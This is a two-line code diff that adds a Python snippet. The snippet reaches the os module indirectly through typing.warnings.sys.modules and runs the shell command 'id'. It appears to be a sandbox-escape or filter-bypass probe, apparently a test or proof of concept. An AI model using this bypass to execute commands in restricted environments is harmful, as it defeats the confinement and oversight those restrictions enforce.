@@ -1,0 +1,2 @@
+import typing
+typing.warnings.sys.modules["os"].system("id")
